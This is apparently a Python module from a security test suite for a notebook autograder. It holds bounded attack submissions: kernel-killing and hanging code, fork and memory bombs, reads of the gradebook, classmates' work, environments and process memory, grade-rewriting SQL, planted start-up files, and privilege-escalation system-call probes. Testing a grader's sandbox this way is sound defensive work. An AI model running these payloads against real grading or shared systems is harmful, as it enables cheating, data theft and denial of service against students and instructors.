"""C. The system: kernels that die, hang and multiply; bombs, all of them bounded; the grader's files, memory and network."""

from __future__ import annotations

from typing import Any

from .attack import INVERTED, HandIn, Scene, answered, as_bytes, attack, code

__all__ = ["ATTACKS"]

# No bomb goes beyond these, whatever the limits of the machine. (An attack's own sleep lasts longer: it costs nothing.)
BOUNDS = "PROCESSES, BYTES, SECONDS, IDLE = 64, 300_000_000, 20, 120\n"

DYING = (
    code("C.exit", "ends Python", "import os\nos._exit(0)"),
    code("C.exit_when_called", "ends Python from inside the function under test", """
import os
def inverted_dropout(x, p, mask):
    os._exit(0)
"""),
    code("C.sigkill", "kills itself", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
    code("C.segfault", "reads address 0", "import ctypes\nctypes.string_at(0)"),
    code("C.abort", "aborts from another thread, while nobody looks", """
import ctypes, threading, time
threading.Thread(target=lambda: (time.sleep(0.3), ctypes.CDLL(None).abort()), daemon=True).start()
time.sleep(1)
"""),
    code("C.recursion", "recurses without end, with the limit lifted", """
import sys
sys.setrecursionlimit(10**9)
class Deep:
    def __repr__(self):
        return f"{[self]!r}"
repr(Deep())
"""),
    code("C.kill_parent", "kills the process that started it", """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
"""),
    code("C.kill_all", "kills every process that it may", """
import os, signal, time
if len([name for name in os.listdir("/proc") if name.isdecimal()]) < 40:  # in a namespace of its own
    os.kill(-1, signal.SIGKILL)
"""),
    code("C.stop_parent", "stops the process that started it, which then waits for ever", """
import os, signal
for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdecimal())[:40]:
    if pid not in (1, os.getpid()):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
"""),
)  # fmt: skip

HANGING = (
    code("C.endless", "loops for ever when called", """
def inverted_dropout(x, p, mask):
    import time
    end = time.time() + 60
    while time.time() < end:
        pass
""", classic=True),
    code("C.swallows_interrupt", "loops, and swallows interrupts", BOUNDS + """
import time
end = time.time() + IDLE
while time.time() < end:
    try:
        while time.time() < end:
            time.sleep(0.05)
    except BaseException:
        pass
"""),
    code("C.ignores_signals", "ignores every signal that can be ignored, and sleeps", BOUNDS + """
import signal, time
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
end = time.time() + IDLE
while time.time() < end:
    time.sleep(1)
"""),
    code("C.mute", "closes the kernel's channels and goes on", BOUNDS + """
import os, time
kernel = get_ipython().kernel
for fd in range(3, 200):
    try:
        os.close(fd)
    except OSError:
        pass
time.sleep(IDLE)
"""),
    code("C.regex", "holds the interpreter in C code, where no signal reaches it", """
import re
def inverted_dropout(x, p, mask):
    re.match(r"(a+)+$", "a" * 33 + "b")  # minutes
"""),
    code("C.stops_itself", "stops itself with SIGSTOP", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
)  # fmt: skip

MULTIPLYING = (
    code("C.daemon", "leaves a daemon in a session of its own", BOUNDS + """
import os, subprocess
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", f"{IDLE}.77001"])
    os._exit(0)
"""),
    code("C.nohup", "leaves a process that ignores SIGHUP and SIGTERM", BOUNDS + """
import subprocess, sys
program = f"import signal, time; [signal.signal(s, signal.SIG_IGN) for s in (1, 2, 3, 15)]; time.sleep({IDLE}.77002)"
subprocess.Popen([sys.executable, "-S", "-c", program], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
"""),
    code("C.fork_bomb", "forks 64 processes that fork again", BOUNDS + """
import os, time
made, end = 0, time.time() + SECONDS
while made < PROCESSES and time.time() < end:
    try:
        if os.fork() == 0:
            time.sleep(SECONDS)
            os._exit(0)
        made += 1
    except OSError:
        break
"""),
    code("C.thread_bomb", "starts 400 threads that never end", BOUNDS + """
import threading, time
end = time.time() + SECONDS
def spin():
    while time.time() < end:
        time.sleep(0.001)
for _ in range(400):
    try:
        threading.Thread(target=spin, daemon=True).start()
    except RuntimeError:
        break
"""),
)  # fmt: skip

BOMBS = (
    code("C.memory", "fills the memory that it may use, and 300 MB more", BOUNDS + """
import resource
soft = min(limit for limit in (resource.getrlimit(resource.RLIMIT_DATA)[0], resource.getrlimit(resource.RLIMIT_AS)[0], 2**62) if limit > 0)
used = int(next(line.split()[1] for line in open("/proc/self/status") if line.startswith("VmData"))) * 1024
room = soft - used if 0 < soft - used < 3_000_000_000 else 0
blocks = []
while sum(map(len, blocks)) < room + BYTES:
    blocks.append(bytearray(b"x") * 20_000_000)
"""),
    code("C.shared_memory", "fills shared memory, which limits on data do not count", BOUNDS + """
import mmap, os
maps = []
for number in range(BYTES // 20_000_000):
    maps.append(mmap.mmap(-1, 20_000_000))
    maps[-1].write(b"x" * 20_000_000)
with open("/dev/shm/tdn-left", "wb") as file:
    for _ in range(10):
        file.write(b"x" * 20_000_000)
"""),
    code("C.disk", "fills the disk with 300 MB", BOUNDS + """
import os
for number in range(BYTES // 20_000_000):
    with open(f"block-{number}", "wb") as file:
        file.write(os.urandom(1) * 20_000_000)
""", classic=True),
    code("C.inodes", "makes 20,000 files", """
import os
os.mkdir("many")
for number in range(20_000):
    open(f"many/{number}", "w").close()
"""),
    code("C.descriptors", "opens files until no more can be opened, and keeps them", """
import os
kept = []
try:
    while len(kept) < 5_000:
        kept.append(os.open("/dev/null", os.O_RDONLY))
except OSError:
    pass
""", classic=True),
    code("C.print_endlessly", "prints for 20 seconds", BOUNDS + """
import time
end, put_out = time.time() + SECONDS, 0
while time.time() < end and put_out < BYTES:
    print("x" * 10_000)
    put_out += 10_000
"""),
    code("C.one_large_output", "shows 50 MB of HTML in one piece", """
from IPython.display import HTML, display
display(HTML("<p>" + "x" * 50_000_000))
"""),
    code("C.many_displays", "shows 20,000 outputs", BOUNDS + """
import time
from IPython.display import display
end = time.time() + SECONDS
for number in range(20_000):
    if time.time() > end:
        break
    display({"text/plain": str(number)}, raw=True)
"""),
    code("C.stderr_flood", "writes 100 MB to descriptor 2", """
import os
for _ in range(100):
    os.write(2, b"x" * 1_000_000)
""", classic=True),
    code("C.large_number", "converts a number of a million digits to text, again and again", """
import sys
sys.set_int_max_str_digits(0)
def inverted_dropout(x, p, mask):
    return str(7 ** 1_200_000)
""", classic=True),
)  # fmt: skip

# ---------------------------------------------------------------- secrets and other people's work

SEARCH = """
import os
def show(path):
    try:
        with open(path, "rb") as file:
            print(file.read(3_000_000).decode(errors="replace"))
    except OSError:
        pass
"""

READING = (
    code("C.read_gradebook", "prints the gradebook", SEARCH + 'show("@gradebook@")'),
    code("C.read_source", "prints the instructor's notebook", SEARCH + 'show("@source@")'),
    code("C.read_classmate", "prints a classmate's notebook", SEARCH + 'show("@classmate@")'),
    code("C.read_host_file", "prints a file of the instructor's from elsewhere", SEARCH + 'show("@host_file@")'),
    code("C.read_by_walking", "looks for the class above its folder, in /tmp and in home folders", SEARCH + """
import glob
for pattern in ("../*", "../../*", "../../../*", "/tmp/*", "/tmp/*/*", "/var/tmp/*", "/home/*", "/root/*", "@course@/*", "@course@/*/*/*"):
    for path in glob.glob(pattern)[:200]:
        if os.path.isfile(path) and not path.endswith(".log"):
            show(path)
"""),
    code("C.read_environment", "prints its environment, and its ancestors'", SEARCH + """
print(dict(os.environ))
for pid in [name for name in os.listdir("/proc") if name.isdecimal()]:
    show(f"/proc/{pid}/environ")
    show(f"/proc/{pid}/cmdline")
"""),
    code("C.read_through_proc", "reads files through other processes' roots, folders and descriptors", SEARCH + """
for pid in [name for name in os.listdir("/proc") if name.isdecimal()]:
    for path in ("@gradebook@", "@host_file@", "@source@"):
        show(f"/proc/{pid}/root{path}")
    show(f"/proc/{pid}/cwd/gradebook.db")
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            if os.path.isfile(f"/proc/{pid}/fd/{fd}") and pid != str(os.getpid()):
                show(f"/proc/{pid}/fd/{fd}")
    except OSError:
        pass
"""),
    code("C.read_parents_memory", "reads the memory of the process that started it", """
import os, re
found = set()
try:
    maps = open(f"/proc/{os.getppid()}/maps").read().splitlines()
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw" in line and end - start < 200_000_000:
                try:
                    memory.seek(start)
                    found |= set(re.findall(rb"can" + rb"ary-[a-z_]+-[0-9]+", memory.read(end - start)))
                except (OSError, ValueError, OverflowError):
                    pass
except OSError:
    pass
print(found)
"""),
    code("C.read_own_memory", "looks in its own memory for what the grader left there before it forked", """
import re
found = set()
for line in open("/proc/self/maps").read().splitlines():
    start, end = (int(part, 16) for part in line.split()[0].split("-"))
    if " rw" in line and end - start < 200_000_000:
        with open("/proc/self/mem", "rb") as memory:
            try:
                memory.seek(start)
                found |= set(re.findall(rb"can" + rb"ary-[a-z_]+-[0-9]+", memory.read(end - start)))
            except (OSError, ValueError, OverflowError):
                pass
print(found)
"""),
    code("C.read_connection_files", "prints other kernels' connection files, with their keys", SEARCH + """
import glob
show("@connection_file@")
for path in glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*.json")) + glob.glob("/run/user/*/jupyter/*.json"):
    show(path)
"""),
)  # fmt: skip

WRITE_GRADES = """
import sqlite3
book = sqlite3.connect("@gradebook@", timeout=2)
"""

WRITING = (
    code("C.write_own_grade", "gives itself 749 points in the gradebook", WRITE_GRADES + """
me = "c-write_own_grade"
for table in ("grade",):
    book.execute('''UPDATE grade SET manual_score = 749 WHERE notebook_id IN (
        SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment
        ON submitted_notebook.assignment_id = submitted_assignment.id WHERE student_id = ?)''', [me])
book.commit()
"""),
    code("C.write_other_grade", "takes a classmate's points in the gradebook", WRITE_GRADES + """
book.execute('''UPDATE grade SET manual_score = 0 WHERE notebook_id IN (
    SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment
    ON submitted_notebook.assignment_id = submitted_assignment.id WHERE student_id = 'adam')''')
book.commit()
"""),
    code("C.lock_gradebook", "locks the gradebook and holds it from a daemon", """
import os
if os.fork() == 0:
    os.setsid()
    program = ("import sqlite3, time; book = sqlite3.connect('file:@gradebook@?mode=rw', uri=True); "
               "book.execute('BEGIN EXCLUSIVE'); time.sleep(60.77003)")
    import sys
    os.execv(sys.executable, [sys.executable, "-c", program])
import time
time.sleep(1)
"""),
    code("C.delete_gradebook", "truncates the gradebook", "open('@gradebook@', 'r+b').truncate(0)"),
    code("C.change_classmate", "empties a classmate's notebook", "open('@classmate@', 'r+').truncate(0)"),
    code("C.change_source", "changes the instructor's notebook", "open('@source@', 'a').write(' ')"),
    code("C.change_host_file", "changes a file of the instructor's elsewhere", "open('@host_file@', 'a').write('tdn')"),
    code("C.start_up_file", "leaves a start-up file that the next learner's kernel will run", """
import os
for folder in ("~/.ipython/profile_default/startup", "~/.jupyter", "~/.config"):
    try:
        os.makedirs(os.path.expanduser(folder), exist_ok=True)
        with open(os.path.expanduser(f"{folder}/00-tdn-left.py"), "w") as file:
            file.write("import torch\\n")
    except OSError:
        pass
"""),
    code("C.note_for_accomplice", "leaves a note in /tmp, /var/tmp and /dev/shm for an accomplice's notebook", """
for folder in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(f"{folder}/tdn-left", "w") as file:
            file.write("the answer")
    except OSError:
        pass
"""),
)  # fmt: skip


@attack("C.overwrite_own_result", "rewrites the graded notebook and the folder it runs in")
def overwrite_own_result(release: Any, scene: Scene) -> HandIn:
    text = scene.fill("""
import glob, json, os
for path in glob.glob("*.ipynb") + glob.glob("@course@/autograded/c-overwrite_own_result/*/*.ipynb"):
    try:
        notebook = json.load(open(path))
        for cell in notebook["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade"):
                cell["source"] = "3.0"
        json.dump(notebook, open(path, "w"))
    except (OSError, ValueError):
        pass
""")
    return HandIn(as_bytes(answered(release, {INVERTED: text})))


NETWORK = (
    code("C.connect", "sends what it knows to a service on the loopback interface", """
import socket
with socket.create_connection(("127.0.0.1", @port@), timeout=2) as connection:
    connection.sendall(b"tdn")
"""),
    code("C.connect_abstract", "connects to a service by an abstract socket name", """
import socket
with socket.socket(socket.AF_UNIX) as connection:
    connection.settimeout(2)
    connection.connect("\\0@socket@")
"""),
)  # fmt: skip

# What the kernel (of the operating system) must refuse. `print("cana" + ...)` tells that it was allowed.
ALLOWED = """
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def allowed(what):
    print("can" + "ary-allowed-10007", what)
"""

PRIVILEGES = (
    code("C.sockets", "opens sockets that pass a network namespace: vsock, packet, netlink audit", ALLOWED + """
for family, kind in ((40, 1), (17, 3), (38, 5)):  # AF_VSOCK, AF_PACKET, AF_ALG
    try:
        socket.socket(family, kind).close()
        allowed(family)
    except OSError:
        pass
""", only="ours"),
    code("C.system_calls", "tries system calls with a history: keyctl, bpf, io_uring, userfaultfd, perf, mount", ALLOWED + """
PROBES = {"keyctl": (250, 0, -3, 1), "bpf": (321, 0, 0, 0), "io_uring_setup": (425, 1, ctypes.create_string_buffer(120)),
          "userfaultfd": (323, 1), "perf_event_open": (298, ctypes.create_string_buffer(b"\\0\\0\\0\\0\\x70\\0\\0\\0", 112), 0, -1, -1, 0),
          "unshare user": (272, 0x10000000), "add_key": (248, b"user", b"tdn", b"x", 1, -2),
          "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "ptrace 1": (101, 16, 1, 0, 0)}
for name, arguments in PROBES.items():
    if libc.syscall(*arguments) >= 0:
        allowed(name)
""", only="ours"),
    code("C.privileges", "tries to become root, lift its limits, and write to the system", ALLOWED + """
import resource
for what, attempt in {
    "setuid": lambda: os.setuid(0) if os.getuid() else os.stat("/nowhere"),
    "chroot": lambda: os.chroot("/"),
    "limit": lambda: resource.setrlimit(resource.RLIMIT_NPROC, (100_000, 100_000)),
    "sysctl": lambda: open("/proc/sys/kernel/domainname", "w").write("tdn"),
    "python": lambda: open(os.path.join(os.path.dirname(os.__file__), "tdn-left.py"), "w"),
    "torch": lambda: open(os.path.join(os.path.dirname(torch.__file__), "tdn-left.py"), "w"),
    "usr": lambda: open("/usr/tdn-left", "w"),
    "nice": lambda: os.nice(-5),
}.items():
    try:
        attempt()
        allowed(what)
    except (OSError, ValueError):
        pass
""", only="ours"),
)  # fmt: skip

ATTACKS = (*DYING, *HANGING, *MULTIPLYING, *BOMBS, *READING, *WRITING, overwrite_own_result, *NETWORK, *PRIVILEGES)
